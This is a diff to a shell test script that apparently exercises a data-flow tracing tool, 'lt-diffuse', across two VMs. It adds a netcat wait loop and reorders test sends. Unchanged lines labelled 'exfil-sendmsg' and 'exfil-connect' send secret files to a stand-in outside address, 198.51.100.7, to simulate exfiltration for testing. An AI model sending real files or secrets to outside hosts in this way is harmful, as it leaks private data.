@@ -19,9 +19,17 @@ run() {
 
 [ -n "$LT_IP" ] || { echo "LTFAIL vm2: no network (LT_IP is empty)"; echo "LTDONE failed (1)"; exit 1; }
 
-# tcp-send retries until vm1 listens.
-run lt-diffuse tcp-send $S/secret-1.txt 10.0.0.1 9000
+# vm1 answers on TCP 9005 once its UDP receiver is bound (it boots at the
+# same time: retry). The datagram goes first, then the TCP connection
+# (tcp-send retries until vm1 listens), whose end lets vm1 read both.
+i=0
+until nc -w 2 10.0.0.1 9005 </dev/null >/dev/null 2>&1; do
+	i=$((i + 1))
+	[ $i -lt 90 ] || { echo "LTFAIL vm2: vm1 never answered on TCP 9005" >&2; fails=$((fails + 1)); break; }
+	sleep 1
+done
 run lt-diffuse udp-send $S/secret-2.txt 10.0.0.1 9001
+run lt-diffuse tcp-send $S/secret-1.txt 10.0.0.1 9000
 run lt-diffuse -n exfil-sendmsg udp-send -m $S/secret-3.txt 198.51.100.7 9999
 run lt-diffuse -n exfil-connect udp-send -c $S/secret-4.txt 198.51.100.7 9998
 run lt-diffuse -n to-untraced udp-send $S/secret-5.txt 10.0.0.3 9003
